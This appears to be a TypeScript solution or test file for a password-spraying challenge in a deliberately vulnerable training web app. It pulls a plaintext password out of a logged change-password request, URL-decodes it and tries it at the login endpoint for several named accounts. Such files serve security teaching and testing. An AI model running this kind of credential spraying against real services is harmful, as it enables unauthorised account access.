import type { Attack, Tools } from '#lab'

/** The request as in the log: it failed, so the password is still valid. */
const LINE =
  '/rest/user/change-password?current=0Y8rMnww$*9VFYE%C2%A759-!Fg1L6t&6lB&new=sjss22%@%E2%82%AC55jaJasj!.k&repeat=sjss22%@%E2%82%AC55jaJasj!.k8'

/** Tries a password at these accounts. True if the last of them opens. */
async function spray({ http, settings, expect }: Tools, names: string[], password: string): Promise<void> {
  let status = 0
  for (const name of names) {
    const answer = await http.post('/rest/user/login', { email: `${name}@${settings.domain}`, password })
    status = answer.status
  }
  expect(status === 200, 'no account opens')
}

export const attacks: Attack[] = [
  {
    challenge: 'dlpPasswordSprayingChallenge',
    name: 'log in with the password that leaked',
    run: (tools) => spray(tools, ['J12934'], '0Y8rMnww$*9VFYE§59-!Fg1L6t&6lB'),
  },
  {
    challenge: 'dlpPasswordSprayingChallenge',
    name: 'cut it out of the log and try it at one account after the other',
    run: (tools) => {
      const [, encoded = ''] = /current=([^=]*)&new=/.exec(LINE) ?? []
      return spray(tools, ['jim', 'bender', 'amy', 'J12934'], decodeURIComponent(encoded))
    },
  },
]
